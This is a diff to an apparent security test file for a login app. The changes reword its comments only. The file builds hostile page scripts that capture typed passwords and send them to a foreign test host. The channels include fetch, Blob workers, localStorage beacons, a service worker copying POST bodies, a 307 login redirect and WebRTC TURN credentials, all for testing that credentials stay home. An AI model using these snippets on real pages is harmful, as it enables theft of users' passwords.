@@ -1,6 +1,6 @@
 /**
- * Tests that credentials go to no host but those of the environment: hostile pages lead them elsewhere, to a foreign
- * host that notes all it is told.
+ * Tests that credentials go only to the environment's hosts: hostile pages try to send them to a foreign host that
+ * notes everything it receives.
  */
 import { createSocket } from 'node:dgram';
 import { once } from 'node:events';
@@ -13,7 +13,7 @@ import { answer, changed } from './plays.ts';
 
 const rows = ['healthz-open', 'cookie-httponly', 'login-dashboard', 'password-stays-home'] as const;
 
-/** Rows on what the pages show. */
+/** Rows on the content of the pages. */
 const shown = ['healthz-open', 'login-dashboard', 'password-stays-home', 'page-errors'] as const;
 const withoutHttpOnly = playing(
   'POST',
@@ -21,12 +21,12 @@ const withoutHttpOnly = playing(
   changed((head, body) => Buffer.concat([Buffer.from(`${head.replace(/; HttpOnly/gi, '')}\r\n\r\n`), body])),
 );
 
-/** Caught on the way out: both the login and the page's errors tell. */
+/** Caught on the way out: both the login and the page's errors report it. */
 const caught = { 'login-dashboard': 'fail', 'password-stays-home': 'fail' } as const;
 /** Nothing was typed, so nothing else was seen. */
 const away = { 'login-dashboard': 'fail', 'password-stays-home': 'not judged' } as const;
 
-/** Ways out of a page, each to a foreign host of its own: the code is given the host's origin. */
+/** Ways out of a page, each to a foreign host of its own: the code gets the host's origin. */
 const waysOut: readonly ((origin: string) => string)[] = [
   to => `fetch('${to}/fetch', { method: 'POST', mode: 'no-cors', body: secret() })`,
   to =>
@@ -44,8 +44,8 @@ const waysOut: readonly ((origin: string) => string)[] = [
     `new Worker(URL.createObjectURL(new Blob(["onmessage = e => fetch('${to}/worker', { method: 'POST', mode: 'no-cors', body: e.data })"]))).postMessage(secret())`,
 ];
 /**
- * The page sends what was typed before the form is sent, and goes on as if nothing were; its socket and its frame are
- * open by then.
+ * The page sends the typed text before the form is sent, and continues as if nothing had happened; its socket and its
+ * frame are open by then.
  */
 const spy = (origins: readonly string[]): string => `
   const secret = () => document.querySelector('input[type=password]').value;
@@ -57,7 +57,7 @@ const spy = (origins: readonly string[]): string => `
   }
   document.querySelector('input[type=password]').addEventListener('input', () => { ${waysOut.map((way, i) => way(origins[i] ?? '')).join(';\n')} });`;
 
-/** Keeps what is typed, and sends what is kept. */
+/** Stores the typed text, and sends the stored text. */
 const queue = (to: string): string => `
   if (localStorage.getItem('queue')) new Image().src = '${to}/queue?' + localStorage.getItem('queue');
   document.querySelector('input[type=password]')?.addEventListener('input', e => localStorage.setItem('queue', btoa(e.target.value)));`;
@@ -67,13 +67,13 @@ const worker = (origin: string): string => `
   addEventListener('activate', event => event.waitUntil(clients.claim()));
   addEventListener('fetch', event => { if (event.request.method === 'POST') event.request.clone().text().then(body => fetch('${origin}/taken', { method: 'POST', mode: 'no-cors', body })); });`;
 
-/** The page's own script only starts when the worker sees what it asks. */
+/** The page's own script starts only once the worker sees its requests. */
 const afterWorker = (_: string, script: string): string =>
   `<script>navigator.serviceWorker.oncontrollerchange = () => { const own = document.createElement('script'); own.src = '${script}'; document.head.append(own); }; navigator.serviceWorker.register('/worker.js');</script>`;
 
 /**
- * Sends a browser's login on to another address, body included (RFC 9110 §15.4.8), and lets it through to the target
- * otherwise.
+ * Redirects a browser's login to another address, body included (RFC 9110 §15.4.8), and otherwise lets it through to
+ * the target.
  */
 const sentOn = (to: string): Play =>
   changed((top, body, { head }) => {
@@ -82,7 +82,7 @@ const sentOn = (to: string): Play =>
     return `HTTP/1.1 307 Temporary Redirect\r\nLocation: ${to}\r\nAccess-Control-Allow-Origin: ${origin}\r\nAccess-Control-Allow-Credentials: true\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`;
   });
 
-/** Sends what is typed as the name of a relay, and as that of a peer: datagrams for an address pass every proxy by. */
+/** Sends the typed text as the name of a relay, and as that of a peer: datagrams for an address bypass every proxy. */
 const overWebRtc = (port: number): string => `
   const call = async secret => {
     const relay = { urls: 'turn:127.0.0.1:${port}', username: secret, credential: secret };
@@ -102,7 +102,7 @@ const CLIENT_KEY = 'client-4f9a1c77d2';
 
 const cases: readonly {
   strangers?: number;
-  /** The foreign host must have been asked for it. */
+  /** A request that the foreign host must have received. */
   asked?: string;
   hostile: (origin: string, all: readonly string[]) => Omit<Hostile, 'rows'> & Partial<Pick<Hostile, 'rows'>>;
 }[] = [
@@ -146,7 +146,7 @@ const cases: readonly {
     hostile: origin => ({
       title: 'login is redirected to a foreign host with its body',
       exit: 1,
-      // The browser asks that host first whether it may send the body there, and is told nothing: no login was seen.
+      // The browser first asks that host whether it may send the body there, and gets no answer: no login was observed.
       verdicts: { 'login-dashboard': 'fail', 'password-stays-home': 'not judged' },
       scenes: [playing('POST', '/api/v1/auth/login', sentOn(`${origin}/login`))],
     }),
@@ -229,7 +229,7 @@ const cases: readonly {
     }),
   },
   {
-    // No page is signed in that has never seen the password: the session lies where scripts read it.
+    // A page that has never seen the password is not signed in: scripts can read where the session lies.
     hostile: origin => ({
       title: 'dashboard of a good product does without what lies on a foreign host',
       exit: 0,
